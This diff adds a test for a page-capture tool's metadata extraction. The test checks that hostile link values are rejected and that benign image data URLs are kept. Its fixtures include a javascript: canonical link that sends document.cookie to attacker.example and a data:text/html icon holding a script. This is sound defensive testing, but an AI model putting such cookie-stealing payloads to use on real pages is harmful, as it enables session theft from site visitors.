@@ -202,6 +202,30 @@ describe('metadata', () => {
     expect(metadata.openGraph).toEqual({});
   });
 
+  it('gives links only where they can be a page address and an icon (red team: javascript: and data:text/html)', async () => {
+    const head = (links: string) =>
+      `<!doctype html><html><head><title>t</title>${links}</head><body><p>text</p></body></html>`;
+    const metadataOf = async (html: string) =>
+      (await shoot({ html, response: 'json', metadata: true })).json().metadata as PageMetadata;
+    const hostile = await metadataOf(
+      head(
+        `<link rel="canonical" href="javascript:fetch('https://attacker.example/?'+document.cookie)">` +
+          '<link rel="icon" href="data:text/html,<script>alert(document.domain)</script>">' +
+          '<link rel="apple-touch-icon" href="data:image/png;base64,iVBORw0KGgo=">',
+      ),
+    );
+    expect(hostile).toMatchObject({ canonicalUrl: null, favicon: 'data:image/png;base64,iVBORw0KGgo=' });
+    const honest = await metadataOf(
+      head(
+        '<link rel="canonical" href="https://a.example/post"><link rel="icon" href="data:image/svg+xml,<svg/>">',
+      ),
+    );
+    expect(honest).toMatchObject({
+      canonicalUrl: 'https://a.example/post',
+      favicon: 'data:image/svg+xml,<svg/>',
+    });
+  });
+
   it('bounds what a hostile page puts in it: 2,048 characters a string, 16 KiB in all, its first properties kept', async () => {
     const answer = await shoot({ url: `${site.origin}/swollen`, response: 'json', metadata: true });
     expect(answer.status, answer.body.toString('utf8').slice(0, 300)).toBe(200);
